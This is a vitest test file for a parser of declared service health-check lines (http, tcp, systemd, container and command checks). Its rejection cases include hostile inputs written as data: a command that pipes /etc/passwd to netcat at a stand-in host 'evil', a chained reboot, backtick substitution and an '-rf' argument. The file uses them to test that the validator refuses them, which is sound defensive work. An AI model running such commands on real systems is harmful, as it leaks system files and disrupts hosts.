import { describe, expect, it } from "vitest";
import { readCheckLine } from "./check-line.ts";

describe("a declared check", () => {
  it.each([
    ["http://127.0.0.1:{{ port }}/", { kind: "http", target: "http://127.0.0.1:{{ port }}/" }],
    [
      "tcp://{{ host }}:8096 timeout=20s",
      { kind: "tcp", target: "{{ host }}:8096", timeoutSeconds: 20 },
    ],
    [
      'http://nas:3000/login text="Sign in" status=200-299 timeout=5',
      {
        target: "http://nas:3000/login",
        bodyText: "Sign in",
        status: { from: 200, to: 299 },
        timeoutSeconds: 5,
      },
    ],
    ["https://nas/ status=401 on=host", { status: { from: 401, to: 401 }, listensOn: "127.0.0.1" }],
    ["systemd:grafana-server", { kind: "systemd", target: "grafana-server", timeoutSeconds: 60 }],
    [
      "container: {{ name }} timeout=9999",
      { kind: "container", target: "{{ name }}", timeoutSeconds: 600 },
    ],
    [
      `command:psql -c "select 1" '' --db={{ db }} status=1 timeout=3`,
      {
        kind: "command",
        argv: ["psql", "-c", "select 1", "", "--db={{ db }}", "status=1"],
        timeoutSeconds: 3,
      },
    ],
  ])("%s", (text, expected) => {
    expect(readCheckLine(text)).toMatchObject(expected);
  });

  it.each([
    "ftp://nas/",
    "http://",
    "http://nas/ then=this",
    "tcp://nas",
    "systemd:",
    "systemd:-rf",
    "container:two words",
    "command:",
    "command:cat /etc/passwd | nc evil 1",
    "command:true; reboot",
    "command:echo `id`",
    'command:echo "unclosed',
    "command:{{ program }} --now",
    `http://nas/${"x".repeat(600)}`,
  ])("is refused with a reason: %s", (text) => {
    expect(readCheckLine(text)).toEqual({ problem: expect.stringMatching(/chiffon:check/) });
  });
});
